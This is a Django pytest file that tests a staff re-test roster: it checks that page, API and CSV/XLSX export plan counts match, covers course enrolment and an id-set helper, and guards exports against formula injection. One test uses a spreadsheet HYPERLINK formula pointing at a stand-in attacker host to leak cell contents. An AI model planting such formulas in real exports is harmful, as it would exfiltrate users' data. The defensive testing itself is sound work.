"""Attack paths on the set-based re-test roster (promotion.rosters,
casebase.selectors.training_studied_counts_of, config.idsets.id_set)."""

import csv
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from accounts.tests.factories import UserFactory
from casebase.models import Case, CaseStudy
from config.idsets import id_set
from curriculum.models import Enrolment
from curriculum.tests.factories import (
    BehaviourRatingFactory,
    CompetencyItemFactory,
    CourseFactory,
    PositionCompetencyFactory,
    PositionFactory,
)
from promotion import forecast, rosters
from promotion.tests.factories import make_training_cases
from promotion.tests.test_forecast import _period

pytestmark = pytest.mark.django_db

DUE = rosters.RosterFilters(event=rosters.Event.DUE_RETEST)


def page_plans(f=DUE):
    """The plans as the roster page and API word them (RosterRows.rows without periods: the
    per-chunk training_studied_counts, COUNT(DISTINCT case))."""
    to_row = rosters.RosterRows(f.event)
    return [row[-1] for row in to_row.rows(list(rosters.roster_queryset(f)))]


def export_plans(f=DUE):
    """The plans as the CSV/XLSX export words them (roster_rows: training_studied_counts_of)."""
    return [row[-1] for row in rosters.roster_rows(f)]


# --- two open periods of one level: each studied case counts once ---------------------------


def test_two_open_periods_of_one_level_count_each_studied_case_once():
    # given: 5 level-2 training cases, the employee studied 2 → 3 left; two open level-2
    # retention periods (RetentionPeriod has no constraint against it; the demo/import path
    # promotion_history_backfill(with_retention=True) never closes the running one)
    cases = make_training_cases(2, count=5)
    person = UserFactory(roles=["CSR"], level=2)
    for case in cases[:2]:
        CaseStudy.objects.create(employee=person, case=case)
    _period(person, due_in_days=10)
    _period(person, due_in_days=40)
    expected = ["study 3 level-2 training cases not studied yet"] * 2
    # the page and the API say 3 left (the old, distinct count)
    assert page_plans() == expected
    # the CSV/XLSX export must say the same
    assert export_plans() == expected


# --- held: a case's level, history library, test split, CSV injection ------------------------


def test_a_case_moved_to_another_level_or_to_history_counts_as_the_checklist_counts():
    cases = make_training_cases(2, count=4)
    person = UserFactory(roles=["CSR"], level=2)
    for case in cases[:3]:
        CaseStudy.objects.create(employee=person, case=case)
    _period(person, due_in_days=10)
    assert export_plans() == page_plans() == ["study 1 level-2 training case not studied yet"]
    Case.objects.filter(pk=cases[0].pk).update(level=3)  # moved up: 3 cases at level 2, 2 studied
    Case.objects.filter(pk=cases[1].pk).update(status=Case.Status.HISTORY)  # 2 left at level 2
    assert export_plans() == page_plans() == ["study 1 level-2 training case not studied yet"]


FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("cases_left", [0, 2])
def test_a_formula_course_title_in_the_plan_is_inert_in_csv_and_xlsx(cases_left):
    make_training_cases(2, count=cases_left)
    position = PositionFactory()
    empathy = CompetencyItemFactory(code="empathy", name="共情")
    PositionCompetencyFactory(position=position, item=empathy, weight="1", target_score=5)
    CourseFactory(code="EVIL", title=FORMULA_TITLE, items=[empathy])
    person = UserFactory(roles=["CSR"], level=2, name="-2+3", position=position)
    BehaviourRatingFactory(
        employee=person, rater=UserFactory(roles=["Team leader", "CSR"]), item=empathy, score=1
    )
    _period(person, due_in_days=10)
    [row] = list(csv.reader(io.StringIO(rosters.roster_csv(DUE).decode("utf-8-sig"))))[1:]
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@")), row
    assert FORMULA_TITLE in row[-1]
    sheet = load_workbook(io.BytesIO(rosters.roster_xlsx(DUE))).active
    for cell in sheet[2]:
        assert cell.data_type != "f", (cell.coordinate, cell.value)


def test_the_plan_text_cache_does_not_mix_plans_with_equal_counts_and_other_courses():
    make_training_cases(2, count=2)
    position = PositionFactory()
    a = CompetencyItemFactory(code="a", name="a")
    b = CompetencyItemFactory(code="b", name="b")
    for it in (a, b):
        PositionCompetencyFactory(position=position, item=it, weight="0.5", target_score=5)
    CourseFactory(code="CA", title="课A", items=[a])
    CourseFactory(code="CB", title="课B", items=[b])
    rater = UserFactory(roles=["Team leader", "CSR"])
    first, second = UserFactory.create_batch(2, roles=["CSR"], level=2, position=position)
    BehaviourRatingFactory(employee=first, rater=rater, item=a, score=1)
    BehaviourRatingFactory(employee=second, rater=rater, item=b, score=1)
    _period(first, due_in_days=10)
    _period(second, due_in_days=11)
    plans = export_plans()
    assert plans == page_plans()
    assert "课A" in plans[0] and "课B" in plans[1]


def test_a_completed_advised_course_is_dropped_and_an_enrolled_one_is_in_progress():
    position = PositionFactory()
    a = CompetencyItemFactory(code="a", name="a")
    PositionCompetencyFactory(position=position, item=a, weight="1", target_score=5)
    done = CourseFactory(code="DONE", title="已完成", items=[a])
    going = CourseFactory(code="GOING", title="进行中", items=[a])
    person = UserFactory(roles=["CSR"], level=2, position=position)
    BehaviourRatingFactory(
        employee=person, rater=UserFactory(roles=["Team leader", "CSR"]), item=a, score=1
    )
    Enrolment.objects.create(
        employee=person,
        course=done,
        status=Enrolment.Status.COMPLETED,
        completed_at=timezone.now(),
        completed_by=Enrolment.CompletedBy.EXAM,
    )
    Enrolment.objects.create(employee=person, course=going)
    plan = forecast.remedial_plans([(person, 2)])[(person.pk, 2)]
    assert [c.code for c in plan.courses] == ["GOING"]


# --- id_set: the same rows as the plain list it replaces ------------------------------------


@pytest.mark.parametrize("ids", [[None, 1], [2**63], [-1], ["3"]])
def test_id_set_gives_the_same_rows_as_the_list_it_replaces(ids):
    """The plain list ignores None and out-of-range ids; so does the array (a caller with
    user input must not get a 500)."""
    expected = list(Enrolment.objects.filter(employee_id__in=ids).values_list("pk", flat=True))
    assert (
        list(Enrolment.objects.filter(employee_id__in=id_set(ids)).values_list("pk", flat=True))
        == expected
    )


def test_two_open_periods_of_two_levels_each_row_has_its_own_levels_plan():
    """remedial_plans is keyed by (employee, level): an employee with open level-2 and level-3
    periods (promotion_history_backfill with with_retention=True twice never closes the
    first) gets each level's plan on its own row."""
    make_training_cases(2, count=4)
    make_training_cases(3, count=6)
    person = UserFactory(roles=["CSR"], level=3)
    _period(person, due_in_days=10, level=2)
    _period(person, due_in_days=40, level=3)
    expected = [
        "study 4 level-2 training cases not studied yet",
        "study 6 level-3 training cases not studied yet",
    ]
    assert export_plans() == expected
